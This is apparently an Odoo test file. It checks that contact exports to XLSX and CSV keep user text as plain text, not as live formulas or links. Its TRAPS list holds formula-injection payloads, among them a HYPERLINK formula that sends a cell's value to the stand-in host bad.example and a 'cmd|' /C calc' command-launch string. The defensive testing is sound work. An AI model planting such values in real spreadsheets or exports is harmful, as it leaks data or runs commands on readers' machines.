import csv
import io
import json

from openpyxl import load_workbook

from odoo import http
from odoo.tests import HttpCase, new_test_user, tagged

#: What a spreadsheet would compute or open.
TRAPS = (
    '=HYPERLINK("http://bad.example/?x="&A1;"Xem")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "＝1+1",
    "http://bad.example",
    "{=1+1}",
    "mailto:x@bad.example",
)


@tagged("post_install", "-at_install")
class TestExport(HttpCase):
    """Lists exported by a user: texts of others stay texts."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.user = new_test_user(
            cls.env,
            "export.user",
            "base.group_user,base.group_allow_export,base.group_partner_manager",
        )
        cls.contacts = cls.env["res.partner"].create(
            [{"name": "Người nộp", "comment": False, "function": trap} for trap in TRAPS]
        )

    def export(self, kind, **more):
        self.authenticate("export.user", "export.user")
        asked = {
            "model": "res.partner",
            "fields": [
                {"name": "name", "label": "Tên", "type": "char"},
                {"name": "function", "label": "Chức vụ", "type": "char"},
                {"name": "color", "label": "Màu", "type": "integer"},
            ],
            "ids": self.contacts.ids,
            "domain": [],
            "import_compat": False,
            "context": {},
            "groupby": [],
            **more,
        }
        reply = self.url_open(
            f"/web/export/{kind}",
            {"data": json.dumps(asked), "csrf_token": http.Request.csrf_token(self)},
        )
        self.assertEqual(reply.status_code, 200)
        return reply.content

    def cells(self, content):
        return [cell for row in load_workbook(io.BytesIO(content)).active for cell in row]

    def test_workbook(self):
        for more in ({}, {"ids": False, "domain": [("id", "in", self.contacts.ids)],
                          "groupby": ["function"]}):  # fmt: skip
            with self.subTest(**more):
                cells = self.cells(self.export("xlsx", **more))
                texts = [cell.value for cell in cells if cell.data_type == "s"]
                for trap in TRAPS:
                    self.assertTrue(any(trap.strip() in str(text) for text in texts), trap)
                self.assertFalse([cell.value for cell in cells if cell.data_type == "f"])
                self.assertFalse([cell.value for cell in cells if cell.hyperlink])
                self.assertIn("n", {cell.data_type for cell in cells}, "numbers stay numbers")

    def test_csv(self):
        rows = list(csv.reader(io.StringIO(self.export("csv").decode())))
        told = [row[1] for row in rows[1:]]
        self.assertEqual(len(told), len(TRAPS))
        for text in told:
            self.assertNotIn(text[:1], ("=", "+", "-", "@", "\t", "\r", "＝"))
        self.assertIn("'@SUM(1+1)", told)
